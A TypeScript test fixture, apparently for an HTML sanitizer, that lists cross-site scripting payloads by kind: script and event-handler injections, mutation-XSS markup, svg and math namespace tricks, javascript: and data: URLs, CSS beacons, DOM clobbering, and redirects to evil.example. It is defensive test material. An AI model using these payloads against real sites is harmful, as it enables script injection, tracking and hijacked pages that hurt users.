const run = 'alert(1)';
const picture = `<img src=x onerror=${run}>`;

/**
 * Malicious texts by kind (reliability X2, X3), joined to one text per kind. A text that swallows the rest of the markup comes last.
 * The end-to-end tests run the whole corpus in a browser, with and without the security policy.
 */
export const hostileTexts: Record<string, string> = {
  'scripts and handlers': [
    `<script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    picture,
    `<p onclick=${run} onfocus=${run} tabindex=0 autofocus>x</p>`,
    `<details open ontoggle=${run}><summary>x</summary></details>`,
    `<body onload=${run}>`,
  ].join('\n'),
  'markup that mutates when it is read again': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    `<svg></p><style><a id="</style>${picture}">`,
    `<b>`.repeat(600) + picture,
    `<select><template>${picture}</template></select>`,
    `<noembed><img title="</noembed>${picture}"></noembed>`,
    `<textarea><img title="</textarea>${picture}"></textarea>`,
    `<noscript><p title="</noscript>${picture}">`,
  ].join('\n'),
  svg: [
    `<svg onload=${run}></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}></svg>#x"></use></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
    `<svg><set attributeName=onmouseover to=${run}></set></svg>`,
  ].join('\n'),
  'math and foreign namespaces': [
    `<math href="javascript:${run}">x</math>`,
    `<math><annotation-xml encoding="text/html">${picture}</annotation-xml></math>`,
    `<math><mi xlink:href="data:x,<script>${run}</script>">x</mi></math>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
    `<svg xmlns="http://www.w3.org/1999/xhtml">${picture}</svg>`,
    `<p is="x-component" xml:base="javascript:${run}//">x</p>`,
  ].join('\n'),
  addresses: [
    ...[`javascript:${run}`, `java\tscript:${run}`, `\u0001javascript:${run}`, `javascript&colon;${run}`, 'vbscript:msgbox(1)'],
    ...[`data:text/html,<script>${run}</script>`, 'data:image/svg+xml;base64,PHN2Zy8+', 'blob:https://evil.example/1'],
  ]
    .flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}">`, `<iframe src="${address}"></iframe>`])
    .concat(`<a href="//evil.example" target=_top ping="https://evil.example/">x</a>`, `<object data="data:text/html,${picture}"></object>`)
    .join('\n'),
  styles: [
    '<p style="position:fixed;inset:0;z-index:9999;background:red">cover</p>',
    '<p style="background:url(//evil.example/beacon)">beacon</p>',
    `<p style="width:expression(${run});-moz-binding:url(//evil.example/x)">old</p>`,
    '<p data-style="position:fixed;inset:0">parked</p>',
    '<p style="color:var(--x,url(//evil.example/x));animation:x 1s">x</p>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>main{display:none}</style>',
  ].join('\n'),
  'names that clobber': [
    '<form name=body><input name=parentNode><input name=attributes></form>',
    '<img name=getElementById><img name=cookie><a id=location href=#>x</a>',
    '<a id=__proto__ name=constructor href=#>x</a>',
    '<p class="page" id="root">x</p>',
    '<iframe name=localStorage></iframe>',
  ].join('\n'),
  'pages that are left': [
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    `<form action="https://evil.example"><button formaction="javascript:${run}">x</button></form>`,
    '<frameset><frame src="https://evil.example"></frameset>',
  ].join('\n'),
};
